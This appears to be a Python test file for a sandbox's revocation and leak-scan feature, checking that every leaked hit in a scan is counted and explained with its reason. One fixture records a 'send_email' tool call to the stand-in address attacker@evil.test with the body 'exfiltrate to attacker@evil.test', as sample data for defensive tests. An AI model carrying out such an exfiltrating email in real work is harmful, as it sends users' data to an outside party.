"""A revocation report agrees with its leak scan: every hit the scan counts is either erased (so not
found) or named in `not_erased` with its reason; nothing is counted that the notes do not explain.

The first test generates scans of every shape (locations in the database, the log, the sandbox, the
scratch space, the agent's context; every kind of reason, and none); the second runs the scan on a real
state database holding the case that once contradicted itself: the ledger row of a dropped email to the
attacker, counted as a hit while `not_erased` was empty.
"""

from __future__ import annotations

import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from sandboxd.db import Database
from sandboxd.revocation.erasure import AGENT_WROTE_IT, SENT_OUT, target_filter
from sandboxd.revocation.leaks import LeakScan, kept_cells, scan_cells

SALT = bytes(range(32))
TARGET = "exfiltrate to attacker@evil.test"

places = st.sampled_from([
    "state.db:ledger_calls.args[{n}]", "state.db:prov_artifacts.content[{n}]", "state.db@{n}", "state.db-wal@{n}",
    "sandboxd.log@{n}", "sandbox:snapshots/s-1/ws/notes.txt@{n}", "sandbox:image:snapshots/s-1/disk.img@{n}",
    "container:/tmp/scratch@{n}", "agent:context"])
reasons = st.sampled_from(["", AGENT_WROTE_IT, SENT_OUT, "another session (s-2) holds it in its own record: not "
                           "this session's to forget", "the sandbox's files as the replay left them",
                           "could not be read, so not searched"])
hits = st.lists(st.tuples(places, st.integers(0, 10**6), reasons).map(lambda t: (t[0].format(n=t[1]), t[2])),
                max_size=30)


def place_of(where: str) -> str:
    return where.rsplit("@", 1)[0] if "@" in where else where.split("[", 1)[0]


def explained(where: str, reason: str, not_erased: list[str]) -> bool:
    words = reason or "the cause is not known"
    return any(line.startswith(place_of(where) + " (") and line.endswith(words) for line in not_erased)


@settings(max_examples=200, deadline=None)
@given(found=hits)
def test_every_hit_of_a_scan_is_named_in_not_erased_with_its_reason(found: list[tuple[str, str]]) -> None:
    scan = LeakScan()
    for where, reason in found:
        scan.add(where, reason)
    leak, not_erased = scan.summary(target_filter(TARGET, [], SALT))
    for where, reason in found:
        assert explained(where, reason, not_erased), (where, reason, not_erased)
    # The counts are the lines' counts: a hit is in exactly one line, and no line counts a hit not found.
    counted = sum(int(line.split(" (", 1)[1].split(" ", 1)[0]) for line in not_erased)
    assert counted == len(found)
    assert leak["hits"] == len(leak["where"]) == sum(1 for _, r in found if not r)
    assert leak["sent_hits"] == sum(1 for _, r in found if r == SENT_OUT)
    assert set(leak["where"]) == {w for w, r in found if not r}


def test_the_ledger_row_of_a_dropped_email_is_a_hit_and_is_named(tmp_path: Path) -> None:
    db = Database(tmp_path / "state.db")
    args = json.dumps({"to": ["attacker@evil.test"], "subject": "notes", "body": TARGET})
    with db.transaction():
        for call_id, state, branch in (("fx-dropped", "dropped", "live"), ("fx-sent", "done", "live"),
                                       ("fx-replayed", "staged", "rv-1")):
            db.insert("ledger_calls", {"call_id": call_id, "session_id": "s-1", "tool": "send_email", "args": args,
                                       "state": state, "branch": branch, "lineage": "s-1", "created_at": 1.0})
    scan = scan_cells(db, target_filter(TARGET, [], SALT), "s-1", kept_cells("s-1", "rv-1", since=0.0))
    leak, not_erased = scan.summary(target_filter(TARGET, [], SALT))
    db.close()

    by_reason = {reason for _, reason in scan.found}
    assert by_reason == {"", SENT_OUT, AGENT_WROTE_IT}
    # The dropped email never left: its row is a hit the erasure should have taken, and the report says so.
    assert leak["hits"] == 1 and leak["sent_hits"] == 1 and leak["counterfactual_hits"] == 1
    [leaked] = leak["where"]
    assert leaked.startswith("state.db:ledger_calls.args[")
    for where, reason in scan.found:
        assert explained(where, reason, not_erased), (where, not_erased)


@settings(max_examples=50, deadline=None)
@given(found=hits, label=st.sampled_from(["sandbox:", "sandbox:image:", "container:", "state.db", "snapshots/"]))
def test_a_target_spelled_by_a_places_label_leaves_every_hit_counted_as_what_it_is(
        found: list[tuple[str, str]], label: str) -> None:
    scan = LeakScan()
    for where, reason in found:
        scan.add(where, reason)
    leak, _ = scan.summary(target_filter(label, [], SALT))
    # The names are filtered (the label is the target), the counts are those of the unfiltered places.
    outside = [w for w, r in found if w.startswith(("sandbox:", "container:")) and r]
    assert leak["environment_hits"] == len(outside)
    assert leak["hits"] == sum(1 for _, r in found if not r)
    assert not any(label in where for key in ("where", "environment_where", "counterfactual_where", "sent_where")
                   for where in leak[key])
